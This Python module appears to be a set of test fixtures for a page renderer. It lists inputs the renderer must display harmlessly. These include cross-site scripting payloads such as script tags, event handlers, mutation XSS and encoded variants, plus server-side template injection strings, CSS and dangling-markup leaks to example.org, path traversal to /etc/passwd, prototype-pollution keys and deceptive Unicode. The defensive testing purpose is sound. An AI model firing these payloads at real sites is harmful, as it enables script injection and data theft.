"""What a page must not fall for: words of texts and names that would run, ask, end or confuse something."""

from __future__ import annotations

PROBE = "window.pwned=1"
_PARENT = f"parent.{PROBE.removeprefix('window.')}"
ELSEWHERE = "https://example.org"

# Elements and handlers, as such and broken out of where they stand.
MARKUP = (
    f"<script>{PROBE}</script>",
    f"</script><script>{PROBE}</script>",
    f"</SCRIPT ><script>{PROBE}</script>",
    f"<!--<script>{PROBE}</script>",
    f"--><script>{PROBE}</script>",
    f"]]><script>{PROBE}</script>",
    f"<img src=x onerror={PROBE}>",
    f'"><img src=x onerror={PROBE}>',
    f"'><svg onload={PROBE}>",
    f"<svg><script>{PROBE}</script></svg>",
    f"<iframe srcdoc='<script>{_PARENT}</script>'></iframe>",
    f"<iframe src=javascript:{PROBE}></iframe>",
    f"<a href=javascript:{PROBE}>href</a>",
    f"<body onload={PROBE}>",
    f"<details open ontoggle={PROBE}>",
    f"<input autofocus onfocus={PROBE}>",
    f"</title><script>{PROBE}</script>",
    f"</style><script>{PROBE}</script>",
    f"</textarea><script>{PROBE}</script>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{PROBE}</script>'>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<img src={ELSEWHERE}/x.png>",
    f"<base href={ELSEWHERE}/>",
    f"<math><mtext><style><img src=x onerror={PROBE}></style></mtext></math>",
    f"<object data=javascript:{PROBE}></object>",
    f"<embed src={ELSEWHERE}/x.svg>",
    f"<video><source onerror={PROBE}></video>",
    f"<template shadowrootmode=open><script>{PROBE}</script></template>",
    f"<![CDATA[<script>{PROBE}</script>]]>",
    f"<?xml-stylesheet href='{ELSEWHERE}/x.css'?>",
    f"<img src='{ELSEWHERE}/?stolen=",
    f'"]}}</script><script>{PROBE}</script>',
)

# What one parser reads as words and the next as an element (mutation XSS).
MUTATIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={PROBE}>">',
    f'<svg></p><style><a id="</style><img src=x onerror={PROBE}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PROBE}>",
    f"<math><annotation-xml encoding=text/html><style><img src=x onerror={PROBE}></style></annotation-xml></math>",
    f'<table><td><xmp title="</xmp><img src=x onerror={PROBE}>">',
    f"<plaintext><listing>&lt;img src=x onerror={PROBE}&gt;",
    f"&lt;script&gt;{PROBE}&lt;/script&gt;",
    f"&#60;script&#62;{PROBE}&#60;/script&#62;",
    f"&amp;lt;img src=x onerror={PROBE}&amp;gt;",
    f"\\u003cscript\\u003e{PROBE}\\u003c/script\\u003e",
    f"%3Cscript%3E{PROBE}%3C/script%3E",
    f"+ADw-script+AD4-{PROBE}+ADw-/script+AD4-",
    f"＜script＞{PROBE}＜/script＞",
)

# Ours is Jinja; a reader's own template may stand in another.
TEMPLATES = (
    f"{{{{ constructor.constructor('{PROBE}')() }}}}",
    f"{{% set x = '{PROBE}' %}}{{{{ x }}}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}{% include '/etc/hostname' %}",
    f"${{{PROBE}}}",
    f"#{{{PROBE}}}",
    f"<%= {PROBE} %>",
    f"[[${{{PROBE}}}]]",
    f"`${{{PROBE}}}`",
)

# Out of a string, a property or a rule.
STRINGS = (
    f"\u2028{PROBE}//\u2029",
    f'\\";{PROBE};//',
    f"'-{PROBE}-'",
    f'"+({PROBE})+"',
    f"javascript:{PROBE}",
    f"}}*{{background:url({ELSEWHERE}/a.png)}}",
    f"red;background:url({ELSEWHERE}/b.png)",
    f"</style><style>@import '{ELSEWHERE}/c.css';</style>",
    f"<p style='background:url({ELSEWHERE}/d.png)'>",
    f"expression({PROBE})",
    "<form name=document><input name=getElementById>",
    "<a id=vis><a id=vis name=Network href=x>",
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "__defineGetter__",
)

# All that can stand anywhere where words stand.
PAYLOADS = (*MARKUP, *MUTATIONS, *TEMPLATES, *STRINGS)

# Nothing of this runs; it must not push anything out of its place, nor pass for something else.
ODDITIES = (
    "\u202egnp.ssalc\u202c",
    "\u2066\u202eto the left\u2069",
    "\u200fright\u200e to left",
    "\u0627\u0644\u0648\u0632\u0627\u0631\u0629 (\u0639\u062f\u0646)",
    "\u8001\u5e74\u4eba\u7167\u987e\u8bbe\u65bd",
    "zero\u200bwidth\u200d\ufeffsigns",
    "e" + "\u0301" * 60,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family",
    "Donaudampfschiffahrt" * 100,
    "\x1b[31mred\x1b[0m",
    "back\b\b\b\bspaced",
    "a\x00b",
    "-0",
    "1e999",
    "null",
    "../../etc/passwd",
    "%s%n%x {0} \\",
)

# IRIs that RDF lets in as they are: where a link could lead, and what could break out of an attribute.
IRIS = (
    f"javascript:{PROBE}",
    f"JaVaScRiPt:{PROBE}",
    f"javascript://example.org/%0A{PROBE}",
    f"vbscript:{PROBE}",
    f"data:text/html,%3Cscript%3E{_PARENT}%3C/script%3E",
    f"data:image/svg+xml,%3Csvg%20onload={PROBE}%3E",
    "file:///etc/passwd",
    "blob:null/0",
    "about:blank",
    "view-source:https://example.org/",
    "urn:__proto__",
    "urn:constructor",
    f"{ELSEWHERE}/\u202egnp.ssalc",  # reads as another address than it is
    "https://bank.example@example.org:8/__proto__",  # so does this
)
# These may stand as links, and lead only where they say.
LINKS = (
    f"{ELSEWHERE}/'onmouseover='{PROBE}",
    f"{ELSEWHERE}/?q=%22%3E%3Cimg%20src=x%20onerror={PROBE}%3E",
    f"{ELSEWHERE}/#%3C/script%3E%3Cscript%3E{PROBE}%3C/script%3E",
    f"{ELSEWHERE}/&quot;&gt;&lt;script&gt;{PROBE}",
    "http://[::1]/constructor",
    "https://b\u00fccher.example/\u8001\u5e74\u4eba",
)

# Names that a file can bear.
FILES = tuple(payload for payload in PAYLOADS if "/" not in payload and len(payload.encode()) < 200)
